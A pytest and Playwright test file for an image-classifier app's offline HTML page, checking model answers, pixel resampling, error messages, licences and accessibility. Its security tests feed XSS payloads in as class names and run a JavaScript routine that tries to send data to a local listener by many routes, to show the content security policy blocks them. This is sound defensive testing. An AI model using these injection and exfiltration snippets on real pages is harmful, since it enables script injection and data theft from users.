"""The page of a bundle, opened from the disk in Chromium without a network: it answers as the app does."""

import base64
import gzip
import hashlib
import html
import http.server
import json
import re
import threading
import tomllib
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from conftest import COLOURS, SHARED, drop_on, photo, shrink_pictures
from PIL import Image, ImageFilter, PngImagePlugin

from tlapp import export, images, predict, webpage
from tlapp.ui import answers

ROOT = Path(__file__).resolve().parents[1]
WEB = ROOT / "tlapp" / "bundle" / "web"
ABOUT = webpage.About(
    "", ("reds", "blues"), {"side": 56, "resize": 64, "interpolation": "bicubic", "framing": "crop"}, 0.95,
    "90 %, 9 of 10 test photos right.", "Made.", ("It was tested on 10 photos.",),
)  # fmt: skip
HOSTILE = ("</script><script>document.title='run'</script>", "<img src=x onerror=\"document.title='run'\">{{model}}")


@pytest.fixture(scope="module")
def bundle(trained, tmp_path_factory):
    """The trained run's bundle with its page; none may change it."""
    path = tmp_path_factory.mktemp("bundle") / "reds and blues"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TLAPP_HOME", str(trained.home))
        shrink_pictures(patch)
        return export.export(trained.run, path, web=True).path


@pytest.fixture
def offline(browser):
    """A tab without a network. By its end nothing but the page itself was asked for, and no script has failed."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, service_workers="block")
    context.set_default_timeout(60_000)
    context.set_offline(True)
    asked, failed = [], []
    context.on("request", lambda request: asked.append(request.url))
    context.on("weberror", lambda error: failed.append(str(error.error)))
    yield context.new_page()
    context.close()
    assert not [url for url in asked if not url.startswith(("file:", "blob:", "data:"))]
    assert [url for url in asked if url.startswith("file:")] == [url for url in asked if url.endswith("index.html")]
    assert not failed


def opened(page, folder):
    """The page of this folder, its model ready."""
    page.goto((folder / "index.html").as_uri())
    page.locator("body[data-state=ready]").wait_for()
    return page


def answered(page, *files):
    """What the page says of each file that is dropped on it: the data of its card."""
    before = page.locator("#answers > li").count()
    drop_on(page.locator(".drop"), *files)
    page.wait_for_function("n => document.querySelectorAll('#answers > li').length === n", arg=before + len(files))
    page.wait_for_function("() => !document.querySelector('#answers > [data-state=waiting]')")
    said = page.eval_on_selector_all("#answers > li", "cards => cards.map((card) => ({...card.dataset}))")
    return said[: len(files)]


def written(tmp_path, model, about):
    """A folder with a page of its own."""
    (tmp_path / "index.html").write_bytes(webpage.page(model, about))
    return tmp_path


def real(n):
    """Real photos, some of each flower."""
    if not SHARED.is_dir():
        pytest.skip("the real photos are not here")
    return [path for folder in sorted((SHARED / "flowers-400").iterdir()) if folder.is_dir() for path in
            sorted(folder.glob("*.jpg"))[:n]]  # fmt: skip


def agrees(said, own, within):
    """Whether the page answers as the app, its probabilities and strangeness within so much."""
    assert said["label"] == own.label
    assert json.loads(said["probabilities"]) == pytest.approx(list(own.probabilities.values()), abs=within)
    assert float(said["strangeness"]) == pytest.approx(own.strangeness, abs=10 * within)
    assert said["unknown"] == str(own.unknown).lower()


def test_the_files_of_onnxruntime_web_are_those_that_were_released():
    told = (WEB / "onnxruntime-web" / "README.md").read_text()
    assert f"version {webpage.RUNTIME_VERSION}," in told
    released = re.findall(r"^\| `dist/(\S+)` \| (\d+) \| `([0-9a-f]{64})` \|$", told, re.M)
    assert {f"{name}.gz" for name, _, _ in released} == {file.name for file in WEB.glob("*/*.gz")}
    notices = (WEB / "onnxruntime-web" / "ThirdPartyNotices.txt").read_bytes()
    assert f"| `ThirdPartyNotices.txt` | {len(notices)} | `{hashlib.sha256(notices).hexdigest()}` |" in told
    assert f"`onnxruntime` {webpage.RUNTIME_VERSION}," in told
    for name, size, digest in released:
        unpacked = gzip.decompress((WEB / "onnxruntime-web" / f"{name}.gz").read_bytes())
        assert (len(unpacked), hashlib.sha256(unpacked).hexdigest()) == (int(size), digest)
    assert "MIT License" in (WEB / "onnxruntime-web" / "LICENSE").read_text()


def test_the_page_hands_on_the_licence_and_the_notices_of_the_program_that_is_in_it():
    text = html.unescape(webpage.page(b"", ABOUT).decode())
    for name in ("LICENSE", "ThirdPartyNotices.txt"):
        assert f"<pre>{(WEB / 'onnxruntime-web' / name).read_text()}</pre>" in text


def test_the_package_names_the_licences_of_all_that_it_installs():
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert project["license"] == "Apache-2.0 AND MIT"
    listed = {file for pattern in project["license-files"] for file in ROOT.glob(pattern)}
    there = {file for name in ("LICENSE*", "*Notices*") for file in (*ROOT.glob(name), *ROOT.glob(f"tlapp/**/{name}"))}
    assert listed == there
    assert len(there) == 3
    for file in there:
        file.read_bytes().decode("utf-8")  # as installers demand of a licence file


def test_every_file_of_the_page_is_installed_with_the_package():
    settings = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]
    patterns = settings["package-data"]["tlapp.bundle"]
    installed = {file for pattern in patterns for file in (ROOT / "tlapp" / "bundle").glob(pattern) if file.is_file()}
    assert installed == {file for file in WEB.rglob("*") if file.is_file()}


def test_the_page_has_the_same_limits_as_the_app():
    script = (WEB / "pixels.js").read_text() + (WEB / "page.js").read_text()
    for name, value in (
        ("SHORT_SIDE", images.SHORT_SIDE), ("MOST_BYTES", f"{images.MAX_BYTES // 2**20} * 2 ** 20"),
        ("MOST_PIXELS", f"{images.MAX_PIXELS:_}"), ("MOST_ASPECT", images.MAX_ASPECT), ("LEAST_SIDE", images.MIN_SIDE),
        ("GREY", images.GREY), ("UNSURE", answers.UNSURE), ("MOST_BARS", answers.MOST_BARS),
    ):  # fmt: skip
        assert f"const {name} = {value};" in script


def test_the_page_is_in_the_bundle_when_asked_for_and_the_card_says_so(bundle):
    names = {file.name for file in bundle.iterdir()}
    assert {"index.html", "model.onnx", "predict.py"} <= names
    assert "`index.html` runs the same `model.onnx`" in (bundle / "MODEL_CARD.md").read_text()
    (packed,) = re.findall(r'id="model">([^<]+)<', (bundle / "index.html").read_text())
    assert gzip.decompress(base64.b64decode(packed)) == (bundle / "model.onnx").read_bytes()


def test_a_photo_dropped_without_a_network_gets_the_apps_answer(
    bundle, trained, offline, small_pictures, tmp_path, monkeypatch
):
    monkeypatch.setenv("TLAPP_HOME", str(trained.home))
    files = [photo(tmp_path / f"{name}.png", COLOURS[name], 9, (300, 270)) for name in ("reds", "blues", "greens")]
    for number, path in enumerate(real(1)):
        with Image.open(path) as picture:
            picture.save(tmp_path / f"real {number}.png")
        files.append(tmp_path / f"real {number}.png")
    said = answered(opened(offline, bundle), *files)
    assert [one["file"] for one in said] == [file.name for file in files]
    for one, own in zip(said, predict.load(trained.run).predict_files(files), strict=True):
        agrees(one, own, 1e-5)


def test_real_jpeg_photos_get_the_apps_answer(bundle, trained, offline, small_pictures, monkeypatch):
    monkeypatch.setenv("TLAPP_HOME", str(trained.home))
    files = real(4)
    said = answered(opened(offline, bundle), *files)
    for one, own in zip(said, predict.load(trained.run).predict_files(files), strict=True):
        agrees(one, own, 1e-3)


def odd_pictures(folder):
    """Pictures that try the resampling: noise, sharp edges, narrow and wide, small, turned, with a gamma."""
    random = np.random.default_rng(1)
    for width, height in ((900, 701), (257, 300), (60, 48), (256, 256), (8, 90), (300, 64)):
        noise = Image.fromarray(random.integers(0, 256, (height, width, 3), dtype=np.uint8))
        noise.save(folder / f"{width} by {height}.png")
    stripes = np.zeros((600, 800, 3), np.uint8)
    stripes[:, ::3] = 255
    Image.fromarray(stripes).save(folder / "stripes.png")
    Image.fromarray(stripes).convert("L").save(folder / "grey.png")
    smooth = Image.fromarray(random.integers(0, 256, (400, 500, 3), dtype=np.uint8)).filter(ImageFilter.GaussianBlur(9))
    gamma = PngImagePlugin.PngInfo()
    gamma.add(b"gAMA", (100_000).to_bytes(4, "big"))
    smooth.save(folder / "gamma.png", pnginfo=gamma)
    turned = Image.Exif()
    turned[0x0112] = 6
    smooth.save(folder / "turned.png", exif=turned)
    smooth.save(folder / "turned.jpg", quality=90, exif=turned)
    smooth.save(folder / "smooth.webp", lossless=True)
    return sorted(folder.iterdir())


@pytest.mark.parametrize(
    "view",
    [
        {"side": 224, "resize": 256, "interpolation": "bicubic", "framing": "crop"},
        {"side": 57, "resize": 64, "interpolation": "bilinear", "framing": "crop"},
        {"side": 224, "resize": 256, "interpolation": "bicubic", "framing": "letterbox"},
        {"side": 99, "resize": 99, "interpolation": "bilinear", "framing": "letterbox"},
    ],
    ids=lambda view: f"{view['framing']} {view['side']}",
)
def test_pictures_become_the_very_pixels_that_the_app_sees(view, bundle, offline, tmp_path):
    page = opened(offline, bundle)
    for file in odd_pictures(tmp_path):
        found = seen(page, file, view)
        whole = images.load(file.read_bytes())
        if view["framing"] == "letterbox":
            own = images.letterboxed(whole, view["side"], view["interpolation"])
        else:
            own = images.centre(whole, view["resize"], view["side"], view["interpolation"])
        np.testing.assert_array_equal(found, own, err_msg=file.name)


def seen(page, file, view):
    """What the page shows its model of a file: uint8 (side, side, 3)."""
    data = page.evaluate(
        """async ([text, view]) => {
            const bytes = Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));
            const pixels = await squareOf(new File([bytes], 'photo'), view);
            return btoa(Array.from(pixels, (level) => String.fromCharCode(level)).join(''));
        }""",
        [base64.b64encode(file.read_bytes()).decode(), view],
    )
    return np.frombuffer(base64.b64decode(data), np.uint8).reshape(view["side"], view["side"], 3)


def test_transparency_16_bits_and_large_jpegs_come_within_a_few_levels(bundle, offline, tmp_path):
    random = np.random.default_rng(2)
    Image.fromarray(random.integers(0, 256, (80, 90, 4), dtype=np.uint8)).save(tmp_path / "clear.png")
    Image.fromarray(random.integers(0, 65536, (80, 90), dtype=np.uint16)).save(tmp_path / "deep.png")
    for side in (2, 4, 8):  # large JPEGs, of which Pillow takes so many pixels together
        smooth = Image.fromarray(random.integers(64, 192, (60, 80, 3), dtype=np.uint8)).resize((300 * side, 280 * side))
        noisy = np.asarray(smooth) + random.normal(0, 20, (280 * side, 300 * side, 3))
        Image.fromarray(np.clip(noisy, 0, 255).astype(np.uint8)).save(tmp_path / f"{side}.jpg", quality=90)
    view = {"side": 64, "resize": 80, "interpolation": "bicubic", "framing": "crop"}
    page = opened(offline, bundle)
    for name, within in (("clear.png", 2), ("deep.png", 2), ("2.jpg", 8), ("4.jpg", 8), ("8.jpg", 8)):
        own = images.centre(images.load((tmp_path / name).read_bytes()), 80, 64, "bicubic")
        difference = np.abs(seen(page, tmp_path / name, view).astype(int) - own)
        assert difference.max() <= within, name
        assert difference.mean() < 1, name


def test_what_is_no_photo_is_named_with_what_to_do_and_the_others_are_answered(bundle, offline, tmp_path):
    bad = tmp_path / "letter.jpg"
    bad.write_bytes(b"hello")
    (tmp_path / "empty.png").touch()
    tiny = photo(tmp_path / "tiny.png", COLOURS["reds"], 1, (7, 7))
    long = photo(tmp_path / "long.png", COLOURS["reds"], 1, (210, 10))
    good = photo(tmp_path / "good.png", COLOURS["reds"], 1)
    page = opened(offline, bundle)
    said = answered(page, bad, tmp_path / "empty.png", tiny, long, good)
    assert [one["state"] for one in said] == ["failed"] * 4 + ["answered"]
    texts = page.locator("#answers > li").all_inner_texts()
    assert texts[:4] == [
        "letter.jpg is not a picture that this browser can read, or it is damaged; save it as JPEG or PNG.",
        "empty.png is empty (0 bytes).",
        "tiny.png is only 7 × 7 pixels; at least 8 a side are needed.",
        "long.png is 210 × 10 pixels, more than 20 times as long as wide; crop it first.",
    ]
    assert re.fullmatch(r"5 photos: .+ 1, 4 not read", page.locator("#status").inner_text())


def test_names_of_classes_are_text_and_nothing_else(bundle, offline, tmp_path):
    about = replace(ABOUT, name="<b>{{model}}", classes=HOSTILE, worth="</p><script>document.title='run'</script>")
    page = opened(offline, written(tmp_path, (bundle / "model.onnx").read_bytes(), about))
    (said,) = answered(page, photo(tmp_path / "a<b>.png", COLOURS["reds"], 3))
    assert said["label"] in HOSTILE
    assert page.title() == "<b>{{model}}"
    assert set(page.locator(".bars .name").all_inner_texts()) == set(HOSTILE)
    assert page.locator("#answers b, #answers script, header b, header script, .names script, .names img").count() == 0


def test_strangers_are_called_none_of_these_and_doubt_is_said(bundle, offline, tmp_path):
    model = (bundle / "model.onnx").read_bytes()
    page = opened(offline, written(tmp_path, model, replace(ABOUT, keep=-1.0)))
    (said,) = answered(page, photo(tmp_path / "one.png", COLOURS["reds"], 3))
    assert said["unknown"] == "true"
    assert page.locator(".said").inner_text() == f"None of these, perhaps: nearest is {said['label']}"
    assert page.evaluate("inWords({shares: [0.59, 0.41], best: 0, unknown: false})") == "Not sure: perhaps reds"
    assert page.evaluate("inWords({shares: [0.6, 0.4], best: 0, unknown: false})") == "reds"


def test_more_than_five_classes_are_folded(bundle, offline):
    page = opened(offline, bundle)
    page.evaluate(
        """() => {
            about.classes = about.shown = ['a', 'b', 'c', 'd', 'e', 'f', 'g'];
            const card = add(new File([], 'x.png'));
            answers.append(card);
            show(card, {shares: [0.1, 0.3, 0.2, 0.15, 0.05, 0.12, 0.08], best: 1, unknown: null, seconds: 1});
        }"""
    )
    assert page.locator(".more > .bars .name").all_inner_texts() == ["b", "c", "d", "f", "a"]
    assert page.locator(".more summary").inner_text() == "2 more classes"
    page.locator(".more summary").click()
    assert page.locator(".more details .name").all_inner_texts() == ["g", "e"]


@pytest.fixture
def listener():
    """An address of this machine, and what was asked for there."""
    asked = []

    class Note(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Note)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


LEAK = """async (host) => {
    const outside = `http://${host}/photo`, add = (kind, told) => document.body.append(
        Object.assign(document.createElement(kind), told));
    window.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    await fetch(outside).catch(() => 0);
    navigator.sendBeacon(outside, 'photo');
    try { new WebSocket(`ws://${host}/photo`); } catch { /* refused */ }
    for (const kind of ['img', 'script', 'iframe', 'video']) add(kind, { src: outside });
    add('link', { rel: 'stylesheet', href: outside });
    add('form', { action: outside, method: 'post', id: 'form' });
    document.getElementById('form').submit();
    add('script', { textContent: "document.title = 'run'" });
}"""


def test_the_browser_refuses_the_page_every_connection(bundle, browser, listener):
    host, asked = listener
    context = browser.new_context(service_workers="block")
    page = opened(context.new_page(), bundle)
    page.evaluate(LEAK, host)
    page.wait_for_function("() => refused.length >= 10")
    refused = page.evaluate("refused")
    title = page.title()
    context.close()
    assert refused.count("connect-src") == 3
    assert set(refused) == {
        "connect-src", "img-src", "script-src-elem", "frame-src", "media-src", "style-src-elem", "form-action",
    }  # fmt: skip
    assert refused.count("script-src-elem") == 2
    assert title != "run"
    assert not asked


def test_a_file_that_was_cut_short_says_so(bundle, offline, tmp_path):
    whole = (bundle / "index.html").read_bytes()
    (tmp_path / "index.html").write_bytes(whole[: -len(whole) // 10])
    offline.goto((tmp_path / "index.html").as_uri())
    offline.locator("body[data-state=failed]").wait_for()
    said = offline.locator("#status").inner_text()
    assert said == "This file is damaged or cut short. Copy it again from where it came."
    assert not offline.locator(".drop").is_visible()


@pytest.mark.parametrize("lacking", ["WebAssembly", "DecompressionStream"])
def test_a_browser_that_is_too_old_is_told_so(lacking, bundle, offline):
    offline.add_init_script(f"delete window.{lacking}")
    offline.goto((bundle / "index.html").as_uri())
    offline.locator("body[data-state=failed]").wait_for()
    said = offline.locator("#status").inner_text()
    assert said.startswith(f"This browser has no {lacking}, which this page needs. Open this file with Chrome")


def test_photos_are_chosen_by_keyboard_asked_about_in_order_and_cleared(bundle, offline, tmp_path):
    files = [photo(tmp_path / f"{n}.png", COLOURS["blues"], n) for n in range(3)]
    page = opened(offline, bundle)
    page.on("filechooser", lambda chooser: None)  # from now on choosers are caught, not only once one is waited for
    page.bring_to_front()  # no chooser opens for a tab that is not looked at
    page.keyboard.press("Tab")
    page.wait_for_function("() => document.activeElement.id === 'pick'")
    with page.expect_file_chooser() as choosing:
        page.keyboard.press("Enter")
    choosing.value.set_files(files)
    page.wait_for_function("() => document.querySelectorAll('[data-state=answered]').length === 3")
    assert page.locator(".file").all_inner_texts() == [
        text for file in files for text in page.locator(".file", has_text=file.name).all_inner_texts()
    ]
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert page.locator("#answers > li").count() == 0
    assert page.evaluate("document.activeElement.id") == "pick"


def test_the_page_is_readable_by_all_and_fits_a_phone(bundle, offline, tmp_path):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="needs axe-playwright-python").Axe()
    (tmp_path / "no.jpg").write_bytes(b"hello")
    page = opened(offline, bundle)
    answered(page, photo(tmp_path / f"{'a' * 80}.png", COLOURS["reds"], 1))
    for scheme in ("light", "dark"):
        for width in (1280, 390):
            page.emulate_media(color_scheme=scheme)
            page.set_viewport_size({"width": width, "height": 800})
            assert page.evaluate("document.documentElement.scrollWidth") == width
            found = axe.run(page).response["violations"]
            assert not [(one["id"], [node["target"] for node in one["nodes"]]) for one in found]
        answered(page, tmp_path / "no.jpg")
        page.locator("main > details > summary").click()
